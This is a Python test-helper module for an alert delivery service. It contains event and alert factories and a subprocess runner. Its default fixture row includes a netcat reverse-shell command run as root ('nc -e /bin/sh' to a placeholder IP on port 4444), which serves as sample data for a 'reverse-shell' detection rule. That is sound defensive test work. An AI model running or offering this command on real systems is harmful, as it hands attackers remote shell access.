"""Helpers of the delivery and notifier tests: the one alert/event factory, and the
delivery service run as a subprocess. The scripted HTTP server and the fake clock live
in alerts_support.py and are handed on here."""

from __future__ import annotations

import logging
import signal
import sys
import threading
from collections.abc import Mapping
from types import MappingProxyType
from typing import Any

from alerts_support import (
    HANG,
    Answer,
    FakeClock,
    Request,
    ScriptedEndpoint,
    serve_endpoint,
)

from alert_service.config import load_config
from alert_service.deliver import ScaledClock, build_delivery_service
from alert_service.logs import configure_logging, log_event
from alert_service.match import Alert, alert_id
from alert_service.parse import Event

__all__ = [
    "COLUMNS",
    "HANG",
    "Answer",
    "FakeClock",
    "Request",
    "ScriptedEndpoint",
    "make_alert",
    "make_event",
    "serve_endpoint",
]


COLUMNS: dict[str, str | int | None] = {
    "pid": 901,
    "family": 2,
    "protocol": 6,
    "local_address": "10.0.0.5",
    "local_port": 40001,
    "remote_address": "198.51.100.7",
    "remote_port": 4444,
    "direction": "outbound",
    "community_id": "1:LQU9qZlK+B5F3KDmev6m5PMibrg=",
    "name": "nc",
    "path": "/usr/bin/nc",
    "cmdline": "nc -e /bin/sh 198.51.100.7 4444",
    "uid": 0,
    "username": "root",
}
"""The row of :func:`make_event` unless a test gives its own ``columns``."""


def make_event(
    *,
    host: str = "web-01",
    counter: int = 3,
    action: str = "added",
    decorations: Mapping[str, str] | None = None,
    columns: Mapping[str, str | int | None] | None = None,
    query_name: str = "pack_tracked_connections_tracked_connections",
    pack: str | None = "tracked_connections",
    calendar_time: str = "Tue Sep  2 07:05:09 2025 UTC",
    unix_time: int = 1756796709,
    **overrides: str | int | None,
) -> Event:
    """The one event factory of these tests: a ``tracked_connections`` row as logged.

    ``columns`` replaces the whole row (:data:`COLUMNS` by default); ``overrides`` then
    set single columns, and a value ``"<drop>"`` leaves that column out.
    """
    cols = dict(COLUMNS if columns is None else columns)
    cols.update(overrides)
    cols = {k: v for k, v in cols.items() if v != "<drop>"}
    return Event(
        name=query_name,
        pack=pack,
        query="tracked_connections",
        host_identifier=host,
        calendar_time=calendar_time,
        unix_time=unix_time,
        epoch=0,
        counter=counter,
        action=action,  # type: ignore[arg-type]
        columns=MappingProxyType(cols),
        decorations=MappingProxyType(
            {"hostname": "web-01.example.com"} if decorations is None else dict(decorations)
        ),
    )


def make_alert(
    rule: str = "reverse-shell", notify: tuple[str, ...] = ("hook",), **kw: Any
) -> Alert:
    event = make_event(**kw)
    return Alert(alert_id(event), rule, notify, event)


def run_delivery(config_path: str, state_path: str, time_scale: float) -> int:
    """Run only the delivery service of ``config_path`` on a compressed clock until SIGTERM.

    Used by the outage test as a real subprocess (``python deliver_support.py ...``):
    the same :func:`build_delivery_service` and workers as ``run``, with a
    :class:`ScaledClock` so minutes of backoff pass in seconds.
    """
    config = load_config(config_path)
    configure_logging(config.log_level)
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda signum, frame: stop.set())
    service = build_delivery_service(config, state_path, clock=ScaledClock(time_scale))
    service.start()
    log_event(logging.getLogger("alert_service.test"), logging.INFO, "delivery_started")
    stop.wait()
    service.stop()
    return 0


if __name__ == "__main__":
    sys.exit(run_delivery(sys.argv[1], sys.argv[2], float(sys.argv[3])))
